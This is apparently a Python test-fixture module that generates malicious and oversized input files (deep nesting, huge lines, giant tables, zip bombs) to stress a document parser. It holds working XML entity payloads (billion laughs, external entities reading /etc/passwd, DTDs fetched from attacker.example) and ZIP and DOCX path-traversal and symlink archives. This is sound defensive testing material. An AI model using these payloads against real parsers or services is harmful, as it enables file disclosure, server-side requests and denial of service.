"""Sources that mean harm, or are larger, deeper or more broken than any editor's.

Every attack makes the bytes of a file in a format that its name tells. `scale` is 1 for the size
that the project promises to withstand; tests that need not wait use less of it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

Attack = Callable[[float], bytes]

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_CONTENT = b"""<?xml version="1.0"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>
</Types>"""  # noqa: E501
_RELATIONS = b"""<?xml version="1.0"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>
</Relationships>"""  # noqa: E501
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "tide tide tide tide tide">'
    + "".join(
        f'<!ENTITY {name} "{f"&{before};" * 10}">'
        for before, name in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
"""A thousand million words, where an entity is read as what it stands for."""
OUTSIDE = '<!DOCTYPE lolz [<!ENTITY i SYSTEM "file:///etc/passwd">]>'
FETCHED = '<!DOCTYPE lolz SYSTEM "http://attacker.example/tide.dtd" []>'


def zipped(*members: tuple[str, bytes]) -> bytes:
    """A ZIP archive."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def document(body: str, prolog: str = "", *more: tuple[str, bytes]) -> bytes:
    """A Word document with this body."""
    root = f'<w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return zipped(
        ("[Content_Types].xml", _CONTENT),
        ("_rels/.rels", _RELATIONS),
        ("word/document.xml", f'<?xml version="1.0"?>{prolog}{root}'.encode()),
        *more,
    )


def paragraph(text: str) -> str:
    """A paragraph of a Word document."""
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def feed(items: str, prolog: str = "") -> bytes:
    """An RSS feed."""
    return (
        f'<?xml version="1.0"?>{prolog}<rss version="2.0"><channel><title>Tides</title>'
        f"{items}</channel></rss>"
    ).encode()


def item(content: str) -> str:
    """An item of a feed, its content as markup."""
    return f"<item><title>High water</title><description><![CDATA[{content}]]></description></item>"


def mail(body: bytes, kind: str = "text/plain; charset=utf-8") -> bytes:
    """A mail of one part."""
    head = f"From: bo@harbour.example\nSubject: Tides\nMIME-Version: 1.0\nContent-Type: {kind}\n\n"
    return head.encode() + body


def _many(count: int, text: str) -> Attack:
    return lambda scale: (text * int(count * scale)).encode()


def _within(wrap: Callable[[str], bytes], count: int, text: str, end: str = "") -> Attack:
    return lambda scale: wrap(text * int(count * scale) + end)


def _page(body: str) -> bytes:
    return f"<!DOCTYPE html><html><body><h1>Tides</h1>{body}</body></html>".encode()


def _markdown(body: str) -> bytes:
    return f"# Tides\n\n{body}\n".encode()


def _text(body: str) -> bytes:
    return f"Tides\n\n{body}\n".encode()


def _letter(body: str) -> bytes:
    return mail(body.encode())


def _web_letter(body: str) -> bytes:
    return mail(body.encode(), "text/html; charset=utf-8")


def _item(body: str) -> bytes:
    return feed(item(body))


def _runs(body: str) -> bytes:
    return document(paragraph(body))


def _front(body: str) -> bytes:
    return f"---\ntitle: Tides\nkeys: {body}\n---\n\nThe tide is in.\n".encode()


def _canonical(body: str) -> bytes:
    return f"---\nbriefcast: 1\n---\n\n# Tides\n\n## High water\n\n{body}\n".encode()


def _nested_parts(scale: float) -> bytes:
    parts = (
        f'Content-Type: multipart/mixed; boundary="b{n}"\n\n--b{n}\n'
        for n in range(int(100_000 * scale))
    )
    return b"From: bo@harbour.example\nSubject: Tides\n" + "".join(parts).encode() + b"\nTide\n"


def _nested_mails(scale: float) -> bytes:
    return b"From: bo@harbour.example\nSubject: Tides\n" + (
        b"Content-Type: message/rfc822\n\nSubject: Tide\n" * int(100_000 * scale) + b"\nTide\n"
    )


DEEP: dict[str, dict[str, Attack]] = {
    "elements": {
        "tides.html": _within(_page, 100_000, "<div>", "tide"),
        "tides.xml": _within(lambda body: feed(f"<item>{body}"), 100_000, "<x>", "tide"),
        "items.xml": _within(_item, 100_000, "<div>", "tide"),
        "tides.eml": _within(_web_letter, 100_000, "<div>", "tide"),
        "tides.md": _within(_markdown, 100_000, "<div>", "tide"),
        "tides.docx": lambda scale: document(
            "<w:p>" * int(100_000 * scale) + "</w:p>" * int(100_000 * scale)
        ),
    },
    "lists": {
        "tides.html": _within(_page, 100_000, "<ul><li>", "tide"),
        "tides.md": _within(_markdown, 100_000, "- ", "tide"),
        "numbers.md": _within(_markdown, 100_000, "1. ", "tide"),
        "canonical.md": _within(_canonical, 100_000, "- ", "tide"),
        "tides.txt": _within(_text, 100_000, "- ", "tide"),
        "stairs.md": lambda scale: _markdown(
            "\n".join("  " * n + "- tide" for n in range(int(2_000 * scale)))
        ),
    },
    "quotations": {
        "tides.html": _within(_page, 100_000, "<blockquote>", "tide"),
        "tides.md": _within(_markdown, 100_000, "> ", "tide"),
        "canonical.md": _within(_canonical, 100_000, "> ", "tide"),
        "tides.txt": _within(_text, 100_000, "> ", "tide"),
        "tides.eml": _within(_letter, 100_000, "> ", "tide"),
        "marks.txt": _within(_text, 100_000, "“", "tide"),
    },
    "tables": {
        "tides.html": _within(_page, 50_000, "<table><tr><td>", "tide"),
        "tides.docx": lambda scale: document(
            "<w:tbl><w:tr><w:tc>" * int(30_000 * scale)
            + paragraph("tide")
            + "</w:tc></w:tr></w:tbl>" * int(30_000 * scale)
        ),
    },
    "text boxes": {
        "tides.docx": lambda scale: document(
            "<w:p><w:r><w:pict><w:txbxContent>" * int(25_000 * scale)
            + paragraph("tide")
            + "</w:txbxContent></w:pict></w:r></w:p>" * int(25_000 * scale)
        ),
    },
    "brackets": {
        "tides.md": _within(_markdown, 100_000, "[", "tide"),
        "canonical.md": _within(_canonical, 100_000, "[", "tide"),
        "images.md": _within(_markdown, 100_000, "![", "tide"),
        "closed.md": lambda scale: _markdown(
            "[" * int(100_000 * scale) + "tide" + "](x)" * int(100_000 * scale)
        ),
        "tides.txt": _within(_text, 100_000, "[", "tide"),
        "tides.xml": _within(_item, 100_000, "[caption]", "tide"),
    },
    "emphasis": {
        "tides.md": _within(_markdown, 100_000, "*", "tide"),
        "words.md": _within(_markdown, 100_000, "*a ", "tide"),
        "both.md": _within(_markdown, 50_000, "*a_", "tide"),
        "strong.md": _within(_markdown, 50_000, "**a", "tide"),
        "closed.md": lambda scale: _markdown(
            "*a **b " * int(20_000 * scale) + "c** d*" * int(20_000 * scale)
        ),
        "canonical.md": _within(_canonical, 100_000, "_a ", "tide"),
        "ticks.md": lambda scale: _markdown(
            "".join("`" * n + " " for n in range(int(2000 * scale)))
        ),
        "tides.html": _within(_page, 100_000, "<b>", "tide"),
    },
    "front matter": {
        "flow.md": _within(_front, 100_000, "["),
        "maps.md": _within(_front, 100_000, "{a: "),
        "dashes.md": lambda scale: _front("\n  " + "- " * int(100_000 * scale) + "tide"),
        "canonical.md": lambda scale: _canonical(
            "```story\nlinks: " + "[" * int(100_000 * scale) + "\n```"
        ),
        "keys.md": lambda scale: _front(
            "\n" + "\n".join(f"k{n}: {n}" for n in range(int(50_000 * scale)))
        ),
    },
    "parts": {"tides.eml": _nested_parts, "mails.eml": _nested_mails},
    "archives": {
        "tides.zip": lambda _: _nested_zip(200),
    },
}
"""Things that stand one inside the other, 100,000 deep."""


def _nested_zip(depth: int) -> bytes:
    data = b"Tides\n\nThe tide is in.\n"
    for level in range(depth):
        data = zipped((f"tide{level}.zip" if level else "tide.txt", data))
    return data


_LONG = "The tide is in and the boats are out today. "
LONG: dict[str, Attack] = {
    "tides.txt": _within(_text, 450_000, _LONG),
    "tides.md": _within(_markdown, 450_000, _LONG),
    "canonical.md": _within(_canonical, 450_000, _LONG),
    "tides.html": _within(_page, 450_000, _LONG),
    "tides.xml": _within(_item, 450_000, _LONG),
    "tides.eml": _within(_letter, 450_000, _LONG),
    "web.eml": _within(_web_letter, 450_000, _LONG),
    "tides.docx": _within(_runs, 450_000, _LONG),
    "word.txt": _many(20_000_000, "a"),
    "word.html": _within(_page, 20_000_000, "a"),
    "word.md": _within(_markdown, 20_000_000, "a"),
    "capitals.txt": _many(2_000_000, "TIDE TIME "),
    "dashes.txt": _many(20_000_000, "-"),
    "spaces.txt": _within(_text, 20_000_000, " ", "tide"),
    "spaces.md": _within(_markdown, 20_000_000, " ", "tide"),
    "spaces.html": _within(_page, 20_000_000, " ", "tide"),
    "dots.txt": _many(20_000_000, "."),
    "digits.txt": _many(20_000_000, "1"),
    "slashes.txt": _many(3_000_000, "/a/b.c"),
    "addresses.txt": _many(1_000_000, "https://a.example/ "),
    "ats.txt": _many(5_000_000, "a@b."),
    "tabs.txt": _many(5_000_000, "a\tb\t"),
    "quotes.txt": _many(2_000_000, "“tide” "),
    "attribute.html": _within(lambda body: _page(f'<p title="{body}">tide'), 450_000, _LONG),
    "alt.html": _within(lambda body: _page(f'<img src=a alt="{body}"><p>tide'), 100_000, _LONG),
    "style.html": _within(lambda body: _page(f"<style>{body}</style><p>tide"), 1_000_000, "a{b:c}"),
    "comment.html": _within(lambda body: _page(f"<!--{body}--><p>tide"), 450_000, _LONG),
    "header.eml": lambda scale: (
        b"Subject: " + (_LONG * int(450_000 * scale)).encode() + b"\n\nTide\n"
    ),
    "folded.eml": lambda scale: b"Subject: a" + b"\n b" * int(1_000_000 * scale) + b"\n\nTide\n",
    "words.eml": lambda scale: (
        b"Subject: " + b"=?utf-8?q?a?= " * int(500_000 * scale) + b"\n\nTide\n"
    ),
    "quoted.eml": lambda scale: (
        mail(b"", "text/plain\nContent-Transfer-Encoding: quoted-printable")
        + b"=3D" * int(6_000_000 * scale)
    ),
    "base64.eml": lambda scale: (
        mail(b"", "text/plain\nContent-Transfer-Encoding: base64")
        + b"dGlkZSA=" * int(2_500_000 * scale)
    ),
    "title.md": _many(20_000, "title: tide\n"),
}
"""Twenty megabytes in one line."""


def _cells(row: str, cell: str) -> Callable[[float], str]:
    return lambda scale: (row + cell * 1000) * int(2000 * scale)


TABLES: dict[str, Attack] = {
    "tides.html": lambda scale: _page("<table>" + _cells("<tr>", "<td>1")(scale)),
    "spans.html": lambda scale: _page(
        "<table><tr><th>Tide<th>Time" + "<tr><td rowspan=65534 colspan=1000>1" * int(2000 * scale)
    ),
    "tides.md": lambda scale: _markdown(
        "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + _cells("\n|", "1|")(scale)
    ),
    "short.md": lambda scale: _markdown(
        "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + "\n|1" * int(2000 * scale)
    ),
    "canonical.md": lambda scale: _canonical(
        "|" + "a|" * 1000 + "\n|" + "-|" * 1000 + _cells("\n|", "1|")(scale)
    ),
    "tides.docx": lambda scale: document(
        "<w:tbl>"
        + ("<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>") * int(2000 * scale)
        + "</w:tbl>"
    ),
    "spans.docx": lambda scale: document(
        "<w:tbl>"
        + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="9999999"/></w:tcPr><w:p/></w:tc></w:tr>'
        * int(2000 * scale)
        + "</w:tbl>"
    ),
    "tides.txt": lambda scale: _text(_cells("\n", "1\t")(scale)),
    "commas.txt": lambda scale: _text(_cells("\n", "1,")(scale)),
    "stacked.txt": lambda scale: ("Tide\n\nTime\n\n" + "1\n\n" * int(2_000_000 * scale)).encode(),
    "tides.eml": lambda scale: _web_letter("<table>" + _cells("<tr>", "<td>1")(scale)),
    "tides.xml": lambda scale: _item("<table>" + _cells("<tr>", "<td>1")(scale)),
}
"""Tables of two million cells."""

MANY: dict[str, dict[str, Attack]] = {
    "new lines": {
        "tides.txt": lambda scale: b"Tides" + b"\n" * int(1_000_000 * scale) + b"The tide is in.",
        "tides.md": lambda scale: b"# Tides" + b"\n" * int(1_000_000 * scale) + b"The tide is in.",
        "canonical.md": lambda scale: _canonical("\n" * int(1_000_000 * scale) + "The tide."),
        "tides.eml": lambda scale: mail(b"\n" * int(1_000_000 * scale) + b"The tide is in."),
        "breaks.html": _within(_page, 1_000_000, "<br>", "tide"),
        "breaks.docx": lambda scale: document("<w:p/>" * int(500_000 * scale) + paragraph("tide")),
        "returns.txt": lambda scale: b"Tides" + b"\r" * int(1_000_000 * scale) + b"The tide.",
    },
    "a title": {
        "tides.txt": _within(lambda body: f"{body}\n\nThe tide is in.\n".encode(), 25_000, _LONG),
        "tides.md": _within(lambda body: f"# {body}\n\nThe tide.\n".encode(), 25_000, _LONG),
        "tides.html": _within(
            lambda body: f"<title>{body}</title><h1>{body}</h1><p>tide".encode(), 25_000, _LONG
        ),
        "tides.eml": lambda scale: (
            b"Subject: " + (_LONG * int(25_000 * scale)).encode() + b"\n\nThe tide is in.\n"
        ),
        "tides.xml": _within(
            lambda body: feed(f"<item><title>{body}</title></item>"), 25_000, _LONG
        ),
    },
    "headings": {
        "tides.txt": lambda scale: "\n\n".join(
            f"High water at pier {n}\n\nThe tide is in at pier {n} and the boats are out."
            for n in range(int(100_000 * scale))
        ).encode(),
        "tides.md": lambda scale: "\n\n".join(
            f"## Pier {n}\n\nThe tide." for n in range(int(100_000 * scale))
        ).encode(),
        "same.md": _many(100_000, "## Pier\n\n"),
        "canonical.md": lambda scale: _canonical(
            "\n\n".join(f"## Pier {n}\n\nThe tide." for n in range(int(100_000 * scale)))
        ),
        "tides.html": lambda scale: _page(
            "".join(f"<h2>Pier {n}</h2><p>The tide." for n in range(int(100_000 * scale)))
        ),
        "same.html": _within(_page, 100_000, "<h2>Pier</h2>", "<p>tide"),
        "tides.xml": lambda scale: feed(item("<p>The tide.") * int(100_000 * scale)),
        "same.txt": _many(100_000, "High water\n\n"),
    },
    "images": {
        "tides.txt": _within(_text, 100_000, "[Image: A boat]\n\n"),
        "tides.md": _within(_markdown, 100_000, '![A boat](a.png "A boat, by Bo Marsh")\n\n'),
        "line.md": _within(_markdown, 100_000, "![A boat](a.png)"),
        "canonical.md": _within(_canonical, 100_000, "![A boat](a.png)\n\n"),
        "tides.html": _within(
            _page, 100_000, "<figure><img src=a alt=Boat><figcaption>A boat</figcaption></figure>"
        ),
        "bare.html": _within(_page, 100_000, "<img src=a>"),
        "tides.xml": _within(
            lambda body: feed(f"<item><title>Tide</title>{body}</item>"),
            100_000,
            '<media:content url="a.png" medium="image" xmlns:media="http://search.yahoo.com/mrss/"/>',
        ),
        "gallery.xml": _within(_item, 100_000, '[caption caption="A boat"]<img src=a>[/caption]'),
    },
    "links": {
        "tides.txt": _within(_text, 100_000, "https://a.example/tide\n\n"),
        "tides.md": _within(_markdown, 100_000, "[tide](a) "),
        "unclosed.md": _within(_markdown, 100_000, "[tide](a "),
        "angles.md": _within(_markdown, 100_000, "[a](<b"),
        "references.md": lambda scale: _markdown(
            "".join(f"[a{n}]: b\n" for n in range(int(100_000 * scale)))
        ),
        "notes.md": lambda scale: _markdown(
            "".join(f"a[^{n}]\n\n[^{n}]: b\n\n" for n in range(int(20_000 * scale)))
        ),
        "tides.html": _within(_page, 100_000, "<a href=x>tide</a> "),
        "open.html": _within(_page, 100_000, "<a href=x>tide "),
        "more.txt": _within(_text, 100_000, "Read more\n\n"),
    },
    "items": {
        "tides.txt": _within(_text, 1_000_000, "- tide\n"),
        "tides.md": _within(_markdown, 1_000_000, "- tide\n"),
        "canonical.md": _within(_canonical, 1_000_000, "- tide\n"),
        "tides.html": _within(_page, 1_000_000, "<li>tide"),
        "list.html": _within(lambda body: _page(f"<ul>{body}"), 1_000_000, "<li>tide"),
        "tides.eml": _within(_letter, 1_000_000, "- tide\n"),
    },
    "tags": {
        "angles.md": _within(_markdown, 1_000_000, "<"),
        "open.md": _within(_markdown, 300_000, "<a "),
        "comments.md": _within(_markdown, 300_000, "<!-- "),
        "sections.md": _within(_markdown, 300_000, "<![CDATA["),
        "code.md": _within(_markdown, 300_000, "{% "),
        "curly.md": _within(_markdown, 300_000, "{{ "),
        "liquid.md": _within(_markdown, 300_000, "{{< a "),
        "amp.md": _within(_markdown, 1_000_000, "&"),
        "amp.html": _within(_page, 1_000_000, "&"),
        "amp.xml": _within(_item, 1_000_000, "&"),
        "angles.xml": lambda scale: feed("<" * int(1_000_000 * scale)),
        "sections.xml": lambda scale: feed("<item><![CDATA[" * int(300_000 * scale)),
        "comments.xml": lambda scale: feed("<!--" * int(300_000 * scale)),
        "instructions.xml": lambda scale: b"<?xml" * int(300_000 * scale) + feed(""),
        "doctypes.xml": lambda scale: b"<!DOCTYPE " * int(300_000 * scale) + feed(""),
        "shortcodes.xml": _within(_item, 200_000, "[gallery "),
        "namespaces.xml": lambda scale: feed(
            "".join(f'<x:a xmlns:x="u{n}"/>' for n in range(int(50_000 * scale)))
        ),
        "attributes.xml": lambda scale: feed(
            "<item " + " ".join(f'a{n}="1"' for n in range(int(100_000 * scale))) + "/>"
        ),
        "attributes.docx": lambda scale: document(
            "<w:p " + " ".join(f'a{n}="1"' for n in range(int(100_000 * scale))) + "/>"
        ),
        "boundaries.eml": lambda scale: mail(
            b"--b\n\ntide\n" * int(100_000 * scale), 'multipart/mixed; boundary="b"'
        ),
        "dashes.eml": lambda scale: mail(
            b"--\n" * int(500_000 * scale), 'multipart/mixed; boundary="b"'
        ),
        "headers.eml": lambda scale: (
            b"Subject: Tides\n"
            + b"".join(b"X-%d: a\n" % n for n in range(int(300_000 * scale)))
            + b"\nTide\n"
        ),
        "uuencoded.eml": lambda scale: mail(b"begin 644 a\n" * int(300_000 * scale)),
        "armour.eml": lambda scale: mail(b"-----BEGIN PGP MESSAGE-----\n" * int(100_000 * scale)),
        "wrapped.txt": lambda scale: (
            ("The tide is in and the boats are out to the bank and the bar\n")
            * int(100_000 * scale)
        ).encode(),
    },
}
"""More of one thing than anyone has."""


def _lying_zip(declared: int) -> bytes:
    """A ZIP whose directory and header say that a member holds another number of bytes."""
    data = zlib.compress(b"Tides\n\nThe tide is in.\n" * 400, 9)[2:-4]
    crc = zlib.crc32(b"Tides\n\nThe tide is in.\n" * 400)
    sizes = struct.pack("<III", crc, len(data), declared)
    name = b"tide.txt"
    header = b"PK\3\4\24\0\0\0\10\0\0\0\0\0" + sizes + struct.pack("<HH", len(name), 0) + name
    entry = (
        b"PK\1\2\24\0\24\0\0\0\10\0\0\0\0\0"
        + sizes
        + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, 0)
        + name
    )
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(entry), len(header) + len(data), 0)
    return header + data + entry + end


def _overlapping(count: int) -> bytes:
    """A ZIP whose entries all mean the same compressed bytes."""
    content = b"\0" * 10_000_000
    one = zipped(("0.txt", content))
    at = one.index(b"PK\1\2")
    end = one.index(b"PK\5\6")
    entry = one[at:end]
    entries = b"".join(entry[:46] + b"%05d" % n for n in range(count))
    entries = entries.replace(entry[28:30], struct.pack("<H", 5))
    tail = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, len(entries), at, 0)
    return one[:at] + entries + tail


def _with_mode(name: str, mode: int, data: bytes) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.create_system = 3
        info.external_attr = mode << 16
        archive.writestr(info, data)
        archive.writestr("tide.txt", "Tides\n\nThe tide is in.\n")
    return file.getvalue()


_STORY = b"Tides\n\nThe tide is in.\n"
ARCHIVES: dict[str, Attack] = {
    "zeros.zip": lambda scale: zipped(("tide.txt", b"\0" * int(300_000_000 * scale))),
    "zeros.docx": lambda scale: document("", "", ("word/x.xml", b" " * int(300_000_000 * scale))),
    "members.zip": lambda scale: zipped(
        *((f"{n}.txt", _STORY) for n in range(int(50_000 * scale)))
    ),
    "less.zip": lambda _: _lying_zip(10),
    "more.zip": lambda _: _lying_zip(4_000_000_000),
    "overlapping.zip": lambda scale: _overlapping(int(1000 * scale)),
    "same.zip": lambda _: _same_names(),
    "up.zip": lambda _: zipped(("../../tide.txt", _STORY), ("tide.txt", _STORY)),
    "root.zip": lambda _: zipped(("/etc/tide.txt", _STORY), ("tide.txt", _STORY)),
    "drive.zip": lambda _: zipped(("C:\\tide.txt", _STORY), ("tide.txt", _STORY)),
    "back.zip": lambda _: zipped(("..\\tide.txt", _STORY), ("tide.txt", _STORY)),
    "only-up.zip": lambda _: zipped(("../tide.txt", _STORY)),
    "symlink.zip": lambda _: _with_mode("link.txt", 0o120777, b"/etc/passwd"),
    "device.zip": lambda _: _with_mode("device.txt", 0o020666, b""),
    "odd-name.zip": lambda _: zipped(("a\nb\x1b[31m\u202e.txt", _STORY), ("tide.txt", _STORY)),
    "long-name.zip": lambda _: zipped(("a" * 60_000 + ".txt", _STORY), ("tide.txt", _STORY)),
    "folders.zip": lambda _: zipped(("a/" * 20_000 + "tide.txt", _STORY), ("tide.txt", _STORY)),
    "empty.zip": lambda _: zipped(),
    "empty-file.zip": lambda _: zipped(("tide.txt", b"")),
    "mail.zip": lambda _: zipped(("tide.eml", mail(b"The tide is in and the boats are out.\n"))),
    "upward.docx": lambda _: document(
        paragraph("tide"),
        "",
        (
            "word/_rels/document.xml.rels",
            b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            b'<Relationship Id="r9" Type="http://x/image" Target="../../../../etc/passwd"/>'
            b"</Relationships>",
        ),
    ),
}
"""Archives that mean harm."""


def _same_names() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            for n in range(3):
                archive.writestr("tide.txt", f"Tides {n}\n\nThe tide is in.\n")
    return file.getvalue()


def _entities(prolog: str, sign: str) -> dict[str, bytes]:
    page = f'<?xml version="1.0"?>{prolog}<html><body><h1>Tides</h1><p>The tide &{sign};</p></body></html>'  # noqa: E501
    news = feed(f"<item><title>High &{sign};</title></item>", prolog)
    word = document(paragraph(f"The tide &{sign};"), prolog)
    return {
        "tides.xhtml": page.encode(),
        "tides.xml": news,
        "tides.docx": word,
        "tides.zip": zipped(("tides.xml", news)),
        "tides.eml": mail(page.encode(), "text/html"),
    }


ENTITIES = {
    "many laughs": _entities(LAUGHS, "i"),
    "a file": _entities(OUTSIDE, "i"),
    "a parameter": _entities(
        '<!DOCTYPE lolz [<!ENTITY % i SYSTEM "http://attacker.example/x">%i;]>', "amp"
    ),
    "another's": _entities(FETCHED, "amp"),
}
"""Entities that grow, and entities of files and addresses."""
